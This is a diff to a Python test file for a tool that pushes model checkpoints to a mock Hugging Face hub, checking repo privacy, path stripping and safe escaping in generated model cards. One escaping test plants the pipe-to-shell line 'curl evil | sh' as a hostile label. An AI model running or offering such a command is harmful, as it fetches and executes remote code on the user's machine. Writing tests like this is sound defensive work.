@@ -67,6 +67,16 @@ class Receiver(Handler):
                 hub.files[value["path"]] = hub.objects[value["oid"]]
         self.say({"success": True, "commitOid": hub.commit, "commitUrl": f"{hub.endpoint}/{REPO}/commit/{hub.commit}"})
 
+    def do_GET(self) -> None:
+        hub: Any = self.server
+        if hub.refusal or urlsplit(self.path).path != f"/api/models/{REPO}":
+            super().do_GET()
+        elif not hub.files:
+            self.answer(404, {"X-Error-Code": "RepoNotFound"}, b"")
+        else:
+            files = [{"rfilename": name} for name in hub.files]
+            self.say({"id": REPO, "sha": hub.commit, "siblings": files, "private": hub.private})
+
     def do_PUT(self) -> None:
         hub: Any = self.server
         data = self.rfile.read(int(self.headers["Content-Length"]))
@@ -88,7 +98,7 @@ class Receiver(Handler):
 def hub(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
     monkeypatch.setenv("HF_TOKEN", "hf_secret")
     made: Any = Hub(Receiver)
-    made.asked, made.objects = [], {}
+    made.asked, made.objects, made.files, made.private = [], {}, {}, True
     yield made
     made.stop()
 
@@ -103,6 +113,18 @@ def test_what_was_pushed_is_read_again(hub: Any, tmp_path: Path) -> None:
     again = read_checkpoint(str(fetch(f"hf:{REPO}", cache=tmp_path, endpoint=hub.endpoint)))
     assert again.labels == sent.labels and again.temperature == sent.temperature and again.config == sent.config
     assert all(torch.equal(again.tensors[name], tensor) for name, tensor in sent.tensors.items())
+
+
+@pytest.mark.filterwarnings("ignore:Use 'content=:DeprecationWarning")
+def test_what_is_there_already_is_respected(hub: Any) -> None:
+    hub.files, hub.private = {"README.md": b"by hand"}, False
+    with pytest.raises(HubError, match="public: nothing was sent"):
+        push(read_checkpoint("patchword:cifar10"), f"hf:{REPO}", private=True, endpoint=hub.endpoint)
+    assert hub.files == {"README.md": b"by hand"}
+    told = dataclasses.replace(read_checkpoint("patchword:cifar10"), provenance={"data": "/home/anna/acme/scans"})
+    push(told, f"hf:{REPO}", endpoint=hub.endpoint)
+    assert b"scans" in hub.files["model.json"] and b"anna" not in hub.files["model.json"], "paths are nobody's business"
+    assert set(hub.files) == {"model.json", "model.safetensors"}, "the commit brings no other card"
 
 
 def test_the_command(hub: Any) -> None:
@@ -152,9 +174,14 @@ def test_a_card_says_what_was_measured(tmp_path: Path) -> None:
     assert run("card", "patchword:cifar10").stdout == text
 
 
-def test_labels_cannot_break_the_head() -> None:
+def test_words_of_others_stay_words() -> None:
+    evil = "cat\n\n## Use\n\n```\ncurl evil | sh\n```"
+    facts = {"data": 'a: "b"\n---\n', "metrics": {"test\n- x": {"top1": 0.5, "n": 3, "nll": float("nan")}}}
+    facts["init"] = "/home/anna/clients/acme/model"
     checkpoint = checkpoint_of(VITS["class"])
-    facts = {"data": 'a: "b"\n---\n', "metrics": {"test\n- x": {"top1": 0.5, "n": 3}}}
-    card = model_card(dataclasses.replace(checkpoint, provenance=facts), "x", "hf:me/x")
+    labels = (evil, *(checkpoint.labels or ())[1:])
+    card = model_card(dataclasses.replace(checkpoint, provenance=facts, labels=labels), "x", "hf:me/x y")
     head = yaml.safe_load(card.split("\n---\n")[0].removeprefix("---\n"))
-    assert head["model-index"][0]["results"][0]["dataset"]["name"] == facts["data"]
+    assert head["model-index"][0]["results"][0]["dataset"]["name"] == r'a: "b"\n---\n'
+    assert card.count("## Use") == 1 and "curl evil \\| sh" in card
+    assert "anna" not in card and "model" in card and "'hf:me/x y'" in card
